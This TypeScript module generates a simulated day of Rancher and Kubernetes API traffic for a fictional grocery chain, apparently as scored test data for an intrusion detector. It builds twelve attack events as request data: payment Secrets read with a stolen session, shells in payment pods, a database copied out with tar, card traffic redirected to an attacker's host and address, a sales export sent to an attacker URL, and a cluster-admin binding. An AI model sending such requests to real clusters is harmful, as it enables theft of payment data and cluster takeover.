import { withRegistries } from './site-registries.js';
import { attackKit, type AttackRequest, type DayEvent, lastScoredOf, type Login, prng, pushSteps, type StaffMember, type Step, withAttacks } from './workday.js';

/**
 * A twenty-fourth replayed day, written as an outside red team would after reading docs/risk.md,
 * from situations days 1–23 do not have: a grocery chain (Larder, about 300 stores in the UK) whose
 * stores each run a small k3s cluster in the back office (the lanes' POS services, the freezers'
 * sensors, the shelf-label gateway), all managed by one Rancher (`rancher.localhost` in the
 * example: one central gateway answering for every cluster under `/k8s/clusters/<id>/`), Fleet
 * pushing the same bundles to every store from Git. Thursday 10 December 2026 (warm-up Wednesday
 * 9 December; hours UTC, which is London's in December).
 *
 * Routine, as the tools send it:
 * - the platform team (three, HQ in Leeds on the office network, one from home): Fleet's GitRepos
 *   and Bundles on the local cluster, store clusters' nodes and pods, `kubectl auth can-i --list`
 *   for access requests, the POS terminal ConfigMap of a store, a port-forward to the orders
 *   database in staging (the DBA among them);
 * - regional operations (two by day, one on call at night from home): a store's stuck POS sync
 *   restarted (a pod deleted, a rollout restart), logs, events, every store they are called about
 *   (a different store cluster each call), the freezer sensors' `iot` namespace;
 * - store technicians (four field technicians on iPads, Safari asking for desktop sites, so every
 *   iPad says it is a Mac): Rancher's UI (Steve's `/v1/…` under the store's cluster) on each
 *   store's own broadband Wi-Fi, three stores a day, a lane pod restarted now and then;
 * - the POS vendor's support desk (one shared support account, two factors, 08:00–18:00 UK by
 *   contract, from the vendor's fixed address): the `pos` namespace of the stores that opened a
 *   ticket, the lanes' logs, a diagnostic shell, a rollout restart;
 * - automation: the e-commerce team's GitLab runners (the shared pool, in 10.0.0.0/8) deploying to
 *   the central cluster's `orders-staging` every 20 minutes (production is Fleet's, from Git);
 * - the night: a freezer sensor outage at 02:10 across a region, worked by the on-call with the
 *   break-glass account (Rancher's local admin through the vault, hardware key) for a store whose
 *   cluster's agent lost its registration.
 *
 * The attacks, each of a kind days 1–23 do not have:
 * - a store technician's Rancher session carried to another iPad in another store;
 * - the POS vendor's support account used at 23:30 (outside its contract's hours) from its usual
 *   address: a shell in the payment pods of several stores;
 * - a CI job's token printed in its log, used 20 s later by a job of another project on the same
 *   runner pool;
 * - a ConfigMap that holds the payment gateway's merchant key read in 25 stores with a regional
 *   ops engineer's token (malware on the laptop);
 * - `kubectl cp` (exec of tar) out of a store's loyalty database pod with a regional ops token;
 * - a port-forward to production's orders database with the DBA's token, and nothing else;
 * - `kubectl auth can-i --list` in every namespace of a store, then the one write it permits (the
 *   vendor's: the payment service's image);
 * - a production Service's `externalName` pointed at the attacker's host, through Rancher;
 * - an EndpointSlice in a store's `pos` namespace sending the card processor's Service to an
 *   attacker's address;
 * - a CronJob's schedule changed on an existing job (a patch with only `spec.schedule` and the job
 *   template's env) in a store;
 * - a label added to a pod that moves it into a NetworkPolicy's allowed set (the store database's);
 * - the break-glass account's token reused two hours after the incident.
 */

/**
 * Larder's site copy of the example (session 50): the chain's registries in
 * guardrails.allowed_registries, as docs/guardrails.md tells a site to list them: its own
 * (`registry.larder.example`, where the e-commerce team's CI and Fleet's bundles take every image
 * from) and the POS vendor's (`registry.posvendor.example`, the lanes' and the payment service's
 * images, which the vendor's support account only restarts). The vendor account's payment image
 * from `registry.posvendor-cdn.example` after the `can-i --list` sweep is read (day 24's finding,
 * open on the example, which cannot know a company's registries).
 */
export function SITE(yaml: string): string {
  return withRegistries('24', yaml, ['registry.larder.example', 'registry.posvendor.example']);
}

export const D24_WED = Date.UTC(2026, 11, 9, 0, 0, 0); // warm-up
export const D24_THU = Date.UTC(2026, 11, 10, 0, 0, 0); // scored
const [H, M, S] = [3_600_000, 60_000, 1000];

/** The central gateway: Rancher, answering for the local cluster and every store's. */
export const RANCHER = 'rancher.localhost';
/** A store's cluster as Rancher names it, and its path prefix there. */
export const STORE = (n: number) => `c-m-s${String(n).padStart(4, '0')}`;
export const K8S = (cluster: string) => `/k8s/clusters/${cluster}`;
/** Each store's own broadband line: one address per store, in its own /24. */
export const STORE_WIFI = (n: number) => `86.${128 + (n % 97)}.${(n * 37) % 251}.${20 + (n % 200)}`;
/** The HQ office (trusted) and the POS vendor's support desk. */
export const HQ = (n: number) => `10.40.12.${20 + (n % 200)}`;
export const VENDOR = '203.0.113.40';
export const KUBECTL = (os: string, v = 'v1.31.4', commit = 'a78aa47') => `kubectl/${v} (${os}) kubernetes/${commit}`;
/** Safari on iPadOS asks for desktop sites: every store iPad says it is a Mac. */
export const IPAD_SAFARI = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15';
export const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
export const JSON_CT = { 'content-type': 'application/json' };

type Kind = 'platform' | 'ops' | 'tech' | 'vendor';
type Where = 'hq' | 'home' | 'stores' | 'vendor';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  home: string;
}

const CHAIN = 'larder.example';
/** Stores a person is called about or visits: a draw from the fleet. */
export const FLEET = Array.from({ length: 300 }, (_, i) => 101 + i * 3);

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, day: [number, number, Where][], o: Partial<Person> = {}) => {
    const j = () => (rand() - 0.5) * 0.3;
    const jit = (s: [number, number, Where][]): [number, number, Where][] => s.map(([a, b, w]) => [Math.max(0, a + j()), Math.min(23.9, b + j()), w]);
    const idx = out.length;
    out.push({ name: `d24-${short}@${kind === 'vendor' ? 'posvendor.example' : CHAIN}`, short, idx, svc: kind, kind, os: 'linux', kubectlOs: 'linux/amd64', kubectlVersion: 'v1.31.4', home: `81.${100 + idx * 7}.${(idx * 53) % 250}.${30 + idx}`, warm: jit(day), scored: jit(day), ...o });
  };
  add('platform-1', 'platform', [[8, 17, 'hq']]);
  add('platform-2', 'platform', [[8.5, 12.5, 'hq'], [13.3, 17.5, 'hq']]);
  add('platform-dba', 'platform', [[9, 17.5, 'home']], { kubectlOs: 'darwin/arm64' });
  add('ops-north', 'ops', [[7, 15.5, 'hq']]);
  add('ops-south', 'ops', [[7.5, 16, 'home']], { kubectlOs: 'windows/amd64' });
  add('ops-night', 'ops', [[0.2, 6, 'home'], [21, 23.9, 'home']]);
  for (let i = 1; i <= 4; i++) add(`tech-${i}`, 'tech', [[8.5, 10.5, 'stores'], [11, 13, 'stores'], [13.8, 16, 'stores']]);
  add('vendor', 'vendor', [[8, 17.8, 'vendor']], { kubectlOs: 'windows/amd64' });
  return out;
}

type Req = { method: string; path: string; headers?: Record<string, string>; body?: string };

const RULES_REVIEW = (ns: string): Req => ({ method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', headers: JSON_CT, body: JSON.stringify({ apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace: ns } }) });
const RESTART = (at: string) => JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': at } } } } });
const FLEET_API = '/apis/fleet.cattle.io/v1alpha1/namespaces/fleet-default';

function platformTask(rand: () => number, p: Person, store: number, n: number): Req[] {
  const k = rand();
  const s = K8S(STORE(store));
  const local = K8S('local');
  if (n === 0) return [{ method: 'GET', path: `${local}${FLEET_API}/gitrepos` }, { method: 'GET', path: `${local}${FLEET_API}/bundles?limit=500` }];
  if (p.short === 'platform-dba' && k < 0.35) {
    // The DBA's day: staging's orders database through a port-forward, its pods and events.
    return rand() < 0.5
      ? [{ method: 'GET', path: `${local}/api/v1/namespaces/orders-staging/pods?limit=500` }, { method: 'POST', path: `${local}/api/v1/namespaces/orders-staging/pods/orders-db-0/portforward?ports=5432` }]
      : [{ method: 'GET', path: `${local}/api/v1/namespaces/orders-prod/pods?limit=500` }, { method: 'GET', path: `${local}/api/v1/namespaces/orders-prod/events?limit=500` }];
  }
  if (k < 0.25) return [{ method: 'GET', path: `${s}/api/v1/nodes` }, { method: 'GET', path: `${s}/api/v1/pods?limit=500` }];
  if (k < 0.4) return [{ method: 'GET', path: `${local}${FLEET_API}/bundledeployments?limit=500` }, { method: 'GET', path: `${local}/v1/management.cattle.io.clusters` }];
  if (k < 0.5) return [RULES_REVIEW(rand() < 0.5 ? 'pos' : 'iot')];
  if (k < 0.62) return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/configmaps/pos-terminal-config` }, { method: 'GET', path: `${s}/api/v1/namespaces/pos/pods?limit=500` }];
  if (k < 0.75) return [{ method: 'GET', path: `${s}/api/v1/namespaces/cattle-fleet-system/pods` }, { method: 'GET', path: `${s}/api/v1/namespaces/cattle-fleet-system/pods/fleet-agent-0/log?tailLines=200` }];
  if (k < 0.85) return [{ method: 'GET', path: `${local}/apis/apps/v1/namespaces/orders-prod/deployments?limit=500` }, { method: 'GET', path: `${local}/api/v1/namespaces/orders-prod/services` }];
  return [{ method: 'GET', path: `${s}/apis/networking.k8s.io/v1/namespaces/pos/networkpolicies` }, { method: 'GET', path: `${s}/api/v1/namespaces/pos/services` }];
}

function opsTask(rand: () => number, store: number, t: number, n: number): Req[] {
  const k = rand();
  const s = K8S(STORE(store));
  const pod = `pos-sync-${(store * 7919 + n).toString(36).slice(-5)}`;
  if (k < 0.3) return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/pods?limit=500` }, { method: 'GET', path: `${s}/api/v1/namespaces/pos/pods/${pod}/log?container=sync&tailLines=500` }];
  if (k < 0.45) return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/events?limit=500` }, { method: 'DELETE', path: `${s}/api/v1/namespaces/pos/pods/${pod}` }];
  if (k < 0.55) return [{ method: 'PATCH', path: `${s}/apis/apps/v1/namespaces/pos/deployments/pos-sync?fieldManager=kubectl-rollout`, headers: SMP, body: RESTART(new Date(t).toISOString()) }, { method: 'GET', path: `${s}/apis/apps/v1/namespaces/pos/deployments/pos-sync` }];
  if (k < 0.7) return [{ method: 'GET', path: `${s}/api/v1/namespaces/iot/pods?limit=500` }, { method: 'GET', path: `${s}/api/v1/namespaces/iot/pods/freezer-gw-0/log?tailLines=200` }];
  if (k < 0.8) return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/configmaps/pos-terminal-config` }];
  if (k < 0.9) return [{ method: 'POST', path: `${s}/api/v1/namespaces/pos/pods/${pod}/exec?command=sh&container=sync&stdin=true&stdout=true&tty=true` }];
  return [{ method: 'GET', path: `${s}/api/v1/nodes` }, { method: 'GET', path: `${s}/api/v1/namespaces/kube-system/pods` }];
}

/** Rancher's UI on an iPad: Steve's `/v1/…` under the store's cluster. */
function techTask(rand: () => number, store: number, n: number): Req[] {
  const k = rand();
  const s = K8S(STORE(store));
  if (n === 0) return [{ method: 'GET', path: `${s}/v1/pods/pos` }, { method: 'GET', path: `${s}/v1/events/pos` }];
  if (k < 0.35) return [{ method: 'GET', path: `${s}/v1/pods/pos` }];
  if (k < 0.55) return [{ method: 'GET', path: `${s}/v1/apps.deployments/pos` }, { method: 'GET', path: `${s}/v1/events/pos` }];
  if (k < 0.7) return [{ method: 'GET', path: `${s}/v1/pods/iot` }];
  if (k < 0.82) return [{ method: 'GET', path: `${s}/v1/pods/pos/pos-lane-${1 + Math.floor(rand() * 8)}-0?link=log` }];
  if (k < 0.92) return [{ method: 'DELETE', path: `${s}/v1/pods/pos/pos-lane-${1 + Math.floor(rand() * 8)}-0` }];
  return [{ method: 'GET', path: `${s}/v1/nodes` }];
}

function vendorTask(rand: () => number, store: number, t: number): Req[] {
  const k = rand();
  const s = K8S(STORE(store));
  const lane = `pos-lane-${1 + Math.floor(rand() * 8)}-0`;
  if (k < 0.35) return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/pods?limit=500` }, { method: 'GET', path: `${s}/api/v1/namespaces/pos/pods/${lane}/log?tailLines=1000` }];
  if (k < 0.5) return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/configmaps/pos-terminal-config` }];
  if (k < 0.65) return [{ method: 'POST', path: `${s}/api/v1/namespaces/pos/pods/${lane}/exec?command=sh&container=lane&stdin=true&stdout=true&tty=true` }];
  if (k < 0.75) return [{ method: 'PATCH', path: `${s}/apis/apps/v1/namespaces/pos/deployments/pos-payment?fieldManager=kubectl-rollout`, headers: SMP, body: RESTART(new Date(t).toISOString()) }];
  return [{ method: 'GET', path: `${s}/api/v1/namespaces/pos/events?limit=500` }];
}

export function workday24(seed = 221): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 24);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const pick = () => FLEET[Math.floor(rand() * FLEET.length)]!;
  for (const [day, scored] of [[D24_WED, false], [D24_THU, true]] as const) {
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const mine: DayEvent[] = [];
      const ua = p.kind === 'tech' ? IPAD_SAFARI : KUBECTL(p.kubectlOs, p.kind === 'vendor' ? 'v1.29.3' : 'v1.31.4', p.kind === 'vendor' ? '6813625' : 'a78aa47');
      let n = 0;
      let login: Login | undefined;
      let last = -Infinity;
      const logins: Login[] = [];
      for (const [from, to, where] of scored ? p.scored : p.warm) {
        if (login === undefined || from - last > 2) {
          login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
          logins.push(login);
        }
        last = to;
        const l = login;
        // A technician's sitting is a store visit: its Wi-Fi and its cluster.
        const visit = pick();
        const ipOf = () => (where === 'hq' ? HQ(p.idx * 13 + Math.floor(rand() * 4)) : where === 'home' ? p.home : where === 'vendor' ? VENDOR : STORE_WIFI(visit));
        let t = at(from) + M;
        let store = p.kind === 'tech' ? visit : pick();
        while (t < at(to)) {
          if (p.kind !== 'tech' && rand() < 0.3) store = pick();
          const reqs = p.kind === 'platform' ? platformTask(rand, p, store, n) : p.kind === 'ops' ? opsTask(rand, store, t, n) : p.kind === 'tech' ? techTask(rand, store, n) : vendorTask(rand, store, t);
          n++;
          const gap = 1500 + rand() * 2500;
          const ip = ipOf();
          reqs.forEach((q, i) => mine.push({ at: Math.round(t + i * gap), actor: p.name, scored, ip, ua, login: l, method: q.method, path: q.path, host: RANCHER, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) }));
          t += p.kind === 'tech' ? 6 * M + rand() * 14 * M : 5 * M + rand() * 15 * M;
        }
      }
      if (p.short === 'ops-night' && scored) {
        // 02:10: freezer sensors down across a region; one store's cluster agent lost its
        // registration, so its cluster is reached as Rancher's local admin (the break-glass
        // account, checked out of the vault with the hardware key at 02:25).
        const bg: Login = { sub: 'breakglass-rancher@larder.example', sid: `breakglass:${day}`, authTime: Math.floor(at(2.42) / 1000), acr: 'urn:stepgate:aal3', claims: { amr: ['hwk', 'pin', 'mfa'] } };
        const s = K8S(STORE(412));
        pushSteps(mine, { actor: p.name, scored, ip: p.home, ua, login: bg, host: RANCHER }, at, [
          [2.43, 'GET', `${s}/api/v1/namespaces/cattle-system/pods`],
          [2.45, 'DELETE', `${s}/api/v1/namespaces/cattle-system/pods/cattle-cluster-agent-7c9d5-x2kq4`],
          [2.5, 'GET', `${s}/api/v1/namespaces/iot/pods?limit=500`],
          [2.52, 'PATCH', `${s}/apis/apps/v1/namespaces/iot/deployments/freezer-gw?fieldManager=kubectl-rollout`, SMP, RESTART(new Date(at(2.52)).toISOString())],
        ] satisfies Step[]);
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    // The e-commerce team's runners (the shared pool): staging every 20 minutes; production is
    // Fleet's, from Git, inside the cluster.
    const ci: Login = { sub: 'system:serviceaccount:gitlab-runners:orders-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 30; j++) {
      const t = day + 7 * H + j * 20 * M;
      const ns = 'orders-staging';
      const base = { actor: 'ci', scored, ip: `10.60.${j % 3}.${11 + ((j * 7) % 40)}`, ua: KUBECTL('linux/amd64', 'v1.30.6', '00f20d4'), login: ci, host: RANCHER };
      const local = K8S('local');
      events.push({ ...base, at: t, method: 'PATCH', path: `${local}/apis/apps/v1/namespaces/${ns}/deployments/orders-api?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `registry.larder.example/orders/api:${(seed * 7919 + j * 104729 + (scored ? 1 : 0)).toString(16).slice(0, 7)}` }] } } } }) });
      events.push({ ...base, at: t + 30 * S, method: 'GET', path: `${local}/apis/apps/v1/namespaces/${ns}/deployments/orders-api` });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks24(people, events));
}

/** A CronJob's schedule and its job's env: what a patch that moves an export elsewhere sends. */
export function cronRetimed(schedule: string, url: string): object {
  return { spec: { schedule, jobTemplate: { spec: { template: { spec: { containers: [{ name: 'export', env: [{ name: 'EXPORT_URL', value: url }] }] } } } } } };
}

/** An EndpointSlice for a selectorless Service, naming one address. */
export function endpointSlice(name: string, service: string, address: string, port: number): object {
  return { apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: { name, namespace: 'pos', labels: { 'kubernetes.io/service-name': service } }, addressType: 'IPv4', ports: [{ name: 'https', port, protocol: 'TCP' }], endpoints: [{ addresses: [address] }] };
}

function attacks24(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D24_THU, RANCHER);

  // 1. tech-2's iPad left unlocked in store A's back office; the Rancher session (its cookie's
  // token) carried to another iPad in another store at 12:10: the same Safari, another store's
  // Wi-Fi and cluster; that store's POS Secrets (the payment terminals' keys).
  const tech2 = by('tech-2');
  const v1 = lastScoredOf(routine, tech2.name, T(12.16), () => true);
  const other = 1001;
  add("a store technician's Rancher session carried to another iPad in another store", T(12.16), STORE_WIFI(other), IPAD_SAFARI, v1.login, on([
    ['GET', `${K8S(STORE(other))}/v1/pods/pos`, false],
    ['GET', `${K8S(STORE(other))}/v1/secrets/pos`, true],
    ['GET', `${K8S(STORE(other))}/v1/secrets/pos/payment-terminal-keys`, true],
  ]), 20 * S, tech2);

  // 2. The POS vendor's shared support account used at 23:30, outside its contract's hours, from
  // the vendor's own address (a support engineer who left, the password and the OTP seed in the
  // desk's wiki): a shell in the payment pods of three stores.
  const vend = by('vendor');
  const v2 = lastScoredOf(routine, vend.name, T(17.7), () => true);
  const late: Login = { ...v2.login, sid: `${vend.name}:late`, authTime: Math.floor(T(23.48) / 1000) };
  add("the POS vendor's support account at 23:30, outside its contract's hours, from its usual address: shells in payment pods", T(23.5), VENDOR, v2.ua, late, on(
    [517, 1120, 2204].flatMap((st): AttackRequest[] => [
      ['GET', `${K8S(STORE(st))}/api/v1/namespaces/pos/pods?limit=500`, false],
      ['POST', `${K8S(STORE(st))}/api/v1/namespaces/pos/pods/pos-payment-0/exec?command=sh&container=payment&stdin=true&stdout=true&tty=true`, true],
    ]),
  ), 30 * S);

  // 3. The orders deployer's token printed in a job's log (a debug `kubectl config view --raw`);
  // a job of another project on the same runner pool reads it and uses it 20 s later.
  const ciLogin: Login = { sub: 'system:serviceaccount:gitlab-runners:orders-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  const local = K8S('local');
  add("a CI token printed in a job's log, used 20 s later by another project's job on the same runner pool", T(10) + 50 * S, '10.60.1.23', KUBECTL('linux/amd64', 'v1.30.6', '00f20d4'), ciLogin, on([
    ['GET', `${local}/api/v1/namespaces/orders-prod/secrets/orders-db`, true],
    ['PATCH', `${local}/apis/apps/v1/namespaces/orders-prod/deployments/orders-api?fieldManager=kubectl-set`, true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: 'registry.gitlab-ci-cache.example/orders/api:debug' }] } } } })],
  ]), 5 * S);

  // 4. Malware on ops-north's laptop (the office network, their kubectl, their token) at 13:20:
  // the POS terminal ConfigMap, which holds the payment gateway's merchant key, of 25 stores.
  const opsN = by('ops-north');
  const v4 = lastScoredOf(routine, opsN.name, T(13.33), (x) => x.ua.startsWith('kubectl/'));
  add("a ConfigMap holding the payment gateway's merchant key read in 25 stores (ops laptop malware)", T(13.33), v4.ip, v4.ua, v4.login, on(
    FLEET.slice(40, 65).map((st): AttackRequest => ['GET', `${K8S(STORE(st))}/api/v1/namespaces/pos/configmaps/pos-terminal-config`, true]),
  ), 6 * S, opsN);

  // 5. Malware on ops-south's laptop at 11:15: `kubectl cp` of a store's loyalty database files
  // (an exec of tar), then of two more stores'.
  const opsS = by('ops-south');
  const v5 = lastScoredOf(routine, opsS.name, T(11.25), (x) => x.ua.startsWith('kubectl/'));
  add("kubectl cp (exec of tar) out of stores' loyalty database pods (ops laptop malware)", T(11.25), v5.ip, v5.ua, v5.login, on(
    [412, 733, 905].map((st): AttackRequest => ['POST', `${K8S(STORE(st))}/api/v1/namespaces/pos/pods/loyalty-db-0/exec?command=tar&command=cf&command=-&command=%2Fvar%2Flib%2Fpostgresql%2Fdata&container=postgres&stdout=true`, true]),
  ), 40 * S, opsS);

  // 6. Malware on the DBA's laptop at 14:40: a port-forward to production's orders database,
  // then nothing the gateway sees (the database is read through the tunnel).
  const dba = by('platform-dba');
  const v6 = lastScoredOf(routine, dba.name, T(14.66), (x) => x.ua.startsWith('kubectl/'));
  add("a port-forward to production's orders database with the DBA's token, and nothing else", T(14.66), v6.ip, v6.ua, v6.login, on([
    ['POST', `${local}/api/v1/namespaces/orders-prod/pods/orders-db-0/portforward?ports=5432`, true],
  ]), 10 * S, dba);

  // 7. The vendor's account from the vendor's desk at 15:20 (a phished support engineer's
  // session): `kubectl auth can-i --list` in each namespace of a store, then the one write it
  // permits, the payment service's image swapped for the attacker's.
  const v7 = lastScoredOf(routine, vend.name, T(15.33), () => true);
  const s7 = K8S(STORE(1120));
  add('`kubectl auth can-i --list` in every namespace of a store, then the one write it permits (the payment image)', T(15.33), VENDOR, v7.ua, v7.login, on([
    ...['pos', 'iot', 'kube-system', 'cattle-system', 'default'].map((ns): AttackRequest => {
      const q = RULES_REVIEW(ns);
      return [q.method, `${s7}${q.path}`, false, q.headers, q.body];
    }),
    ['PATCH', `${s7}/apis/apps/v1/namespaces/pos/deployments/pos-payment?fieldManager=kubectl-set`, true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'payment', image: 'registry.posvendor-cdn.example/pos/payment:4.2.1-hotfix' }] } } } })],
  ]), 4 * S, vend);

  // 8. Malware on platform-1's laptop at 15:50: orders-prod's payment gateway Service turned
  // into an ExternalName for the attacker's host, through Rancher's Steve (the UI's API).
  const p1 = by('platform-1');
  const v8 = lastScoredOf(routine, p1.name, T(15.83), () => true);
  add("a production Service's externalName pointed at the attacker's host, through Rancher's Steve", T(15.83), v8.ip, v8.ua, v8.login, on([
    ['GET', '/v1/services/orders-prod/payment-gateway', false],
    ['PUT', '/v1/services/orders-prod/payment-gateway', true, JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'payment-gateway', namespace: 'orders-prod' }, spec: { type: 'ExternalName', externalName: 'pay.gateway-eu-larder.example' } })],
  ]), 15 * S, p1);

  // 9. The night on-call's token (malware on the home laptop) at 22:30: an EndpointSlice in a
  // store's `pos` namespace for the card processor's selectorless Service, sending the lanes'
  // card authorisations to the attacker's address.
  const night = by('ops-night');
  const v9 = lastScoredOf(routine, night.name, T(22.5), (x) => x.ua.startsWith('kubectl/'));
  const s9 = K8S(STORE(733));
  add("an EndpointSlice in a store's pos namespace sending the card processor's Service to the attacker", T(22.5), v9.ip, v9.ua, v9.login, on([
    ['GET', `${s9}/api/v1/namespaces/pos/services/card-processor`, false],
    ['POST', `${s9}/apis/discovery.k8s.io/v1/namespaces/pos/endpointslices?fieldManager=kubectl-create`, true, JSON_CT, JSON.stringify(endpointSlice('card-processor-1', 'card-processor', '185.220.101.47', 443))],
  ]), 20 * S, night);

  // 10. The same at 22:45: the end-of-day sales export CronJob of another store rescheduled
  // (every hour) and sent to the attacker's endpoint, a patch with the schedule and env only.
  const s10 = K8S(STORE(905));
  add("an existing CronJob's schedule and export URL changed in a store (a patch with only spec.schedule and the job's env)", T(22.75), v9.ip, v9.ua, v9.login, on([
    ['GET', `${s10}/apis/batch/v1/namespaces/pos/cronjobs/eod-sales-export`, false],
    ['PATCH', `${s10}/apis/batch/v1/namespaces/pos/cronjobs/eod-sales-export?fieldManager=kubectl-patch`, true, SMP, JSON.stringify(cronRetimed('0 * * * *', 'https://eod-export.larder-analytics.example/upload'))],
  ]), 20 * S, night);

  // 11. A store technician's session (tech-3's iPad, malware in a sideloaded profile) at 15:10:
  // the loyalty kiosk's pod labelled as the POS API, which the `pos` NetworkPolicy lets reach the
  // loyalty database; the kiosk runs the attacker's browser exploit.
  const tech3 = by('tech-3');
  const v11 = lastScoredOf(routine, tech3.name, T(15.16), () => true);
  const s11 = K8S(STORE(Number(/c-m-s0*(\d+)/.exec(v11.path)?.[1] ?? 412)));
  add("a pod's label changed to move it into a NetworkPolicy's allowed set (the kiosk as the POS API)", T(15.16), v11.ip, v11.ua, v11.login, on([
    ['GET', `${s11}/v1/networking.k8s.io.networkpolicies/pos`, false],
    ['PATCH', `${s11}/v1/pods/pos/loyalty-kiosk-0`, true, MERGE, JSON.stringify({ metadata: { labels: { app: 'pos-api' } } })],
  ]), 20 * S, tech3);

  // 12. The break-glass account's token from the 02:25 incident, kept in the on-call's shell
  // history, reused at 04:40 from the same home address: a ClusterRoleBinding in the store.
  const bg = routine.find((x) => x.login.sub.startsWith('breakglass-'))!;
  add("the break-glass account's token reused two hours after the incident, from the same address", T(4.66), bg.ip, bg.ua, bg.login, on([
    ['GET', `${K8S(STORE(412))}/api/v1/namespaces/iot/pods?limit=500`, false],
    ['POST', `${K8S(STORE(412))}/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create`, true, JSON_CT, JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'iot-debug' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'iot' }] })],
  ]), 30 * S);
  return out;
}
